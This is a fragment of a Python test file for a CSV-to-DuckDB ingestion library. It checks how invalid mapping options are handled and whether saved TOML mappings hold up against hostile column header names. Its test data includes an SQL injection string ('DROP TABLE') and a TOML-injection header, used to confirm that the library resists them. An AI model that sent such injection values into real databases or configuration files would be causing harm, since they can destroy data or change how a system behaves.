    seeded: duckdb.DuckDBPyConnection, tmp_path: Path, option: str, value: str
) -> None:
    from answerable.errors import AnswerableError
    from answerable.ingest import Mapping

    mapping = Mapping(
        kind="incidents", columns={"incident_id": "id", "opened_at": "opened"}, **{option: value}
    )
    p = write(tmp_path, "m.csv", "id,opened\nI1,2026-01-05\n")
    before = snapshot(seeded)
    with pytest.raises(AnswerableError) as info:
        ingest_file(seeded, p, kind="incidents", mapping=mapping)
    assert option in str(info.value) and value in str(info.value)  # names the option and the value
    assert snapshot(seeded) == before


@pytest.mark.parametrize(
    "header",
    [
        'a"b',
        'x\n[parse]\ndelimiter = ";"',
        "back\\slash",
        "tab\there",
        "\u2028sep",
        "'); DROP TABLE x; --",
        "del\x7fchar",
    ],
)
def test_saved_mapping_survives_hostile_header_names(header: str) -> None:
    """A mapping saved for reuse (TOML) cannot be injected into by a header name, and reloads as it was."""
    from answerable.ingest import Mapping, dump_mapping, load_mapping

    mapping = Mapping(kind="incidents", columns={"incident_id": header, "opened_at": "opened"}, delimiter=";")
    again = load_mapping(dump_mapping(mapping))
    assert again.columns == mapping.columns
    assert again.delimiter == ";"  # a header spelling `delimiter = ...` did not change the parse options
